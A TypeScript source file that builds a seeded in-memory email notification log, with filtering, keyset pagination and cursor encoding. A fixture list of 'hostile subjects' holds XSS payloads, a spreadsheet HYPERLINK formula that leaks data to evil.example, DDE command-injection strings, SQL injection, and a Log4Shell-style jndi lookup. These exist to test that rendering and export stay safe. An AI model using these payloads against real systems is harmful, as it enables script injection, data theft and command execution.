/**
 * The notification log of the MemoryAdapter: a seeded generator of realistic rows (hostile text
 * included), the server's filter, keyset and CSV rules, in memory. Not part of the one-tag bundle.
 */
import type { LogAttempt, LogCounts, LogEntry, LogError, LogQuery, LogStatus } from './contract.js';
import { LOG_STATUSES } from './contract.js';
import { dateBounds } from './log-query.js';
import { explainGraphError, explainIdentityError, explainNetworkError } from './diagnostics.js';

export interface LogRecord {
  /** `createdAt` as milliseconds, the first sort key. */
  at: number;
  entry: LogEntry;
  /** Made on first request (see `historyOf`): 100,000 rows would otherwise take seconds to seed. */
  history?: LogAttempt[];
  /** Subject and recipients in lower case, for the text filter; made on first use. */
  search?: string;
}

/** A small seeded generator (mulberry32), so that a story shows the same rows on every load. */
export function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hex8 = (rand: () => number) => Math.floor(rand() * 4294967296).toString(16).padStart(8, '0');

/** A version-4-shaped id from the seeded generator. */
export const uuid = (rand: () => number): string => {
  const a = hex8(rand);
  const b = hex8(rand);
  const c = hex8(rand);
  const d = hex8(rand);
  return `${a}-${b.slice(0, 4)}-4${b.slice(5)}-${'89ab'[parseInt(c[0], 16) & 3]}${c.slice(1, 4)}-${c.slice(4)}${d}`;
};

const pick = <T>(rand: () => number, list: readonly T[]): T => list[Math.floor(rand() * list.length)];
const between = (rand: () => number, min: number, max: number) => min + Math.floor(rand() * (max - min + 1));

const FIRST = ['anna', 'ben', 'chloé', 'dmitri', 'emma', 'farid', 'grace', 'hiro', 'ines', 'jonas', 'kofi', 'lena', 'mateo', 'nora', 'oskar', 'priya', 'quinn', 'rosa', 'sven', 'zoë'];
const LAST = ['smith', 'müller', 'garcia', 'nguyen', 'kowalski', 'okafor', 'rossi', 'tanaka', 'dubois', 'oconnor'];
const DOMAINS = ['contoso.com', 'fabrikam.com', 'northwindtraders.com', 'adatum.com', 'woodgrovebank.com', 'tailspintoys.com'];
const COMPANIES = ['Contoso', 'Fabrikam', 'Northwind Traders', 'Adatum', 'Woodgrove Bank', 'Tailspin Toys'];

/** Text a renderer must show as text: markup, spreadsheet formulas, bidi overrides, odd Unicode, length. */
export const HOSTILE_SUBJECTS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1 555 0100 call back',
  'Invoice \u202Efdp.exe',
  "'; DROP TABLE mail_outbox; --",
  "{{constructor.constructor('alert(1)')()}}",
  '${jndi:ldap://evil.example/a} %s%s%n',
  'Zero\u200Bwidth, emoji 📧🔥, ünïcödé, 测试, عربي',
  `Very long subject ${'that keeps going and going '.repeat(30)}end`,
];

function recipient(rand: () => number): string {
  const roll = rand();
  const first = pick(rand, FIRST);
  const last = pick(rand, LAST);
  if (roll < 0.04) return `${first}.${last}_outlook.com#EXT#@contoso.onmicrosoft.com`;
  if (roll < 0.06) return `o'${last}+orders@${pick(rand, DOMAINS)}`;
  return `${first}.${last}@${pick(rand, DOMAINS)}`;
}

const SUBJECTS: ReadonlyArray<(n: number, company: string, rand: () => number) => string> = [
  (n, company) => `Invoice ${n} from ${company}`,
  (n) => `Your order #${n} has shipped`,
  () => 'Password reset requested',
  (_n, _c, rand) => `Weekly report – week ${between(rand, 1, 52)}`,
  (_n, company) => `Appointment reminder for ${company}`,
  (_n, company) => `Welcome to ${company}`,
  (n) => `Re: Ticket ${n} – printer on the 3rd floor`,
  () => 'Payment received – thank you',
  (n) => `Delivery note ${n}`,
];

function subject(rand: () => number): string {
  if (rand() < 0.03) return pick(rand, HOSTILE_SUBJECTS);
  return pick(rand, SUBJECTS)(between(rand, 10000, 99999), pick(rand, COMPANIES), rand);
}

const toLogError = (d: { code: string; message: string; hint: string; requestId?: string }): LogError => ({
  code: d.code,
  message: d.message,
  hint: d.hint,
  ...(d.requestId ? { requestId: d.requestId } : {}),
});

const FAILURE_KINDS = ['send-as', 'mailbox', 'recipients', 'size', 'secret', 'denied'] as const;
const explained = new Map<string, { error: LogError; httpStatus: number }>();

/** A failure as the server's diagnostics would log it (the texts made once per kind). */
export function failureError(rand: () => number, kind: (typeof FAILURE_KINDS)[number] = pick(rand, FAILURE_KINDS)): { error: LogError; httpStatus: number } {
  let known = explained.get(kind);
  if (!known) {
    known = explainFailure(kind);
    explained.set(kind, known);
  }
  return { error: { ...known.error, requestId: uuid(rand) }, httpStatus: known.httpStatus };
}

function explainFailure(kind: string): { error: LogError; httpStatus: number } {
  const graph = (code: string, status: number) => ({ error: toLogError(explainGraphError({ error: { code, message: 'x' } }, status)), httpStatus: status });
  switch (kind) {
    case 'mailbox':
      return graph('MailboxNotEnabledForRESTAPI', 404);
    case 'recipients':
      return graph('ErrorInvalidRecipients', 400);
    case 'size':
      return graph('ErrorMessageSizeExceeded', 413);
    case 'secret':
      return {
        error: toLogError(explainIdentityError({ error: 'invalid_client', error_codes: [7000222] }, 401)),
        httpStatus: 401,
      };
    case 'denied':
      return graph('ErrorAccessDenied', 403);
    default:
      return graph('ErrorSendAsDenied', 403);
  }
}

let timeout: LogError | undefined;

/** An ambiguous outcome: the request may have gone out, so the outbox does not resend it. */
export function ambiguousError(rand: () => number): LogError {
  timeout ??= toLogError(explainNetworkError({ name: 'TimeoutError', message: 'timed out' }));
  return { ...timeout, requestId: uuid(rand) };
}

let retryErrors: Record<number, LogError> | undefined;
const retryError = (status: number): LogError => {
  retryErrors ??= Object.fromEntries(
    [429, 503, 504].map((code) => [code, toLogError(explainGraphError({ error: { code: code === 429 ? 'ApplicationThrottled' : 'ServiceUnavailable', message: 'x' } }, code))]),
  );
  return retryErrors[status];
};

function hash(text: string): number {
  let value = 0x811c9dc5;
  for (let i = 0; i < text.length; i += 1) value = Math.imul(value ^ text.charCodeAt(i), 0x01000193);
  return value >>> 0;
}

/** A record's attempts, made once, the same for the same id. */
export function historyOf(record: LogRecord): LogAttempt[] {
  record.history ??= historyFor(random(hash(record.entry.id)), record.entry, record.at);
  return record.history;
}

export function searchText(record: LogRecord): string {
  record.search ??= `${record.entry.subject}\n${record.entry.to.join('\n')}`.toLowerCase();
  return record.search;
}

/** Attempts that explain an entry's status and count. */
export function historyFor(rand: () => number, entry: LogEntry, at: number): LogAttempt[] {
  const history: LogAttempt[] = [];
  let time = at;
  for (let i = 0; i < entry.attempts; i += 1) {
    time += between(rand, 200, 60_000);
    const last = i === entry.attempts - 1;
    const ms = between(rand, 150, 2500);
    const ids = { requestId: uuid(rand), clientRequestId: uuid(rand) };
    let attempt: LogAttempt;
    if (last && entry.status === 'sent') attempt = { at: '', outcome: 'sent', httpStatus: 202, ...ids, ms };
    else if (last && entry.status === 'failed' && entry.error) attempt = { at: '', outcome: 'failed', httpStatus: 403, ...ids, error: entry.error, ms };
    else if (last && entry.status === 'unknown' && entry.error) attempt = { at: '', outcome: 'unknown', ...ids, error: entry.error, ms };
    else {
      const status = pick(rand, [429, 503, 504]);
      attempt = {
        at: '',
        outcome: 'retry',
        httpStatus: status,
        ...ids,
        error: retryError(status),
        ms,
      };
    }
    attempt.at = new Date(time).toISOString();
    history.push(attempt);
  }
  return history;
}

export interface GenerateOptions {
  seed?: number;
  /** The newest row's time. Default now. */
  now?: number;
  /** How far back the rows reach. Default 90 days. */
  spanDays?: number;
}

/**
 * `count` rows, newest first: mostly sent, some failed or unknown (with mapped errors), the newest few
 * queued or sending; recipients include guests and several-recipient messages; about 3% of subjects
 * are hostile text. Some rows share a millisecond, as a batch does, so the keyset's tie-break matters.
 */
export function generateLog(count: number, options: GenerateOptions = {}): LogRecord[] {
  const rand = random(options.seed ?? 1);
  const now = options.now ?? Date.now();
  const step = ((options.spanDays ?? 90) * 86_400_000) / Math.max(count, 1);
  const records: LogRecord[] = [];
  let at = now;
  for (let i = 0; i < count; i += 1) {
    if (i > 0 && rand() >= 0.05) at -= Math.max(1, Math.floor(rand() * 2 * step));
    const fresh = now - at < 5 * 60_000;
    const roll = rand();
    let status: LogStatus =
      fresh && roll < 0.3 ? 'queued' : fresh && roll < 0.4 ? 'sending' : roll < 0.88 ? 'sent' : roll < 0.96 ? 'failed' : 'unknown';
    if (i === 0 && count > 1) status = 'queued';
    let attempts = 1;
    let error: LogError | undefined;
    if (status === 'queued' || status === 'sending') attempts = rand() < 0.8 ? 0 : between(rand, 1, 2);
    else if (status === 'sent') attempts = rand() < 0.9 ? 1 : between(rand, 2, 4);
    else if (status === 'failed') {
      error = failureError(rand).error;
      attempts = between(rand, 1, 3);
    } else {
      error = ambiguousError(rand);
      attempts = between(rand, 1, 2);
    }
    const recipients = rand() < 0.15 ? between(rand, 2, 4) : 1;
    const entry: LogEntry = {
      id: uuid(rand),
      createdAt: new Date(at).toISOString(),
      to: Array.from({ length: recipients }, () => recipient(rand)),
      subject: subject(rand),
      status,
      attempts,
      durationMs: status === 'queued' ? 0 : between(rand, 180, 4000),
      source: rand() < 0.05 ? 'test' : 'app',
      ...(error ? { error } : {}),
    };
    records.push({ at, entry });
  }
  return records.sort(compareRecords);
}

/** Newest first; the id breaks ties, as the server's `ORDER BY created_at DESC, id DESC`. */
export const compareRecords = (a: LogRecord, b: LogRecord): number =>
  b.at - a.at || (a.entry.id < b.entry.id ? 1 : a.entry.id > b.entry.id ? -1 : 0);


/** Every filter but status and cursor, as a predicate. */
export function baseFilter(query: LogQuery): (record: LogRecord) => boolean {
  const { from, to } = dateBounds(query);
  const text = query.q?.trim().toLowerCase();
  return (record) =>
    (from === undefined || record.at >= from) &&
    (to === undefined || record.at < to) &&
    (!text || searchText(record).includes(text));
}

/** Counts per status of the matching records (newest first), stopping after `cap` matches when given. */
export function countStatuses(records: readonly LogRecord[], matches: (record: LogRecord) => boolean, cap = Infinity): { counts: LogCounts; capped: boolean } {
  const counts = Object.fromEntries(LOG_STATUSES.map((status) => [status, 0])) as LogCounts;
  let seen = 0;
  for (const record of records) {
    if (!matches(record)) continue;
    if (seen === cap) return { counts, capped: true };
    counts[record.entry.status] += 1;
    seen += 1;
  }
  return { counts, capped: false };
}

const base64url = (text: string) => btoa(text).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');

/** The last row's (time, id), base64url, so the shared schema's cursor pattern accepts it. */
export const encodeCursor = (at: number, id: string): string => base64url(`${at}:${id}`);

export function decodeCursor(cursor: string): { at: number; id: string } | null {
  try {
    const text = atob(cursor.replace(/-/g, '+').replace(/_/g, '/'));
    const match = /^(\d{1,15}):([A-Za-z0-9-]{1,64})$/.exec(text);
    return match ? { at: Number(match[1]), id: match[2] } : null;
  } catch {
    return null;
  }
}

/** The index of the first record after the cursor in the sorted list (binary search). */
export function indexAfter(records: readonly LogRecord[], cursor: { at: number; id: string }): number {
  let low = 0;
  let high = records.length;
  while (low < high) {
    const mid = (low + high) >>> 1;
    const record = records[mid];
    const after = record.at < cursor.at || (record.at === cursor.at && record.entry.id < cursor.id);
    if (after) high = mid;
    else low = mid + 1;
  }
  return low;
}

